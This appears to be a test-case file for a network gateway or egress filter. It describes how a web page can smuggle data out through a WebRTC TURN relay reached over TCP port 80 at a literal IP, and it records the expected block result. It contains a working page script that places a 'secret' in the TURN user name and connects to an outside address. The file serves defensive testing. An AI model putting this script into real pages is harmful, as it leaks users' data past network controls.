"""A page opens a peer connection through a relay that is reached over TCP, on a port that web servers have.

The bytes are no HTTP and no TLS. Once the relay asks who it is, the user name follows, and that carries
data of the page.

Not covered: a TURN server at a permitted name, whose port a rule has to open.
"""

ATTACK = {
    "title": "WebRTC allocates a relay over TCP",
    "group": "browser",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["RFC 8656", "RFC 6062"],
    "arrives": [{"what": "tcp", "address": "93.184.216.66", "port": 80}],
    "stopped": [
        {"reason": ["literal-address"], "entry": ["transparent"], "where": {"address": "93.184.216.66"}}
    ],
    "page": "<h1>Call</h1><script>const peer = new RTCPeerConnection({iceTransportPolicy: "
    "'relay', iceServers: [{urls: 'turn:93.184.216.66:80?transport=tcp', username: "
    "'secret-of-the-page', credential: 'x'}]});peer.createDataChannel('x'); "
    "peer.createOffer().then(offer => peer.setLocalDescription(offer))</script>",
}
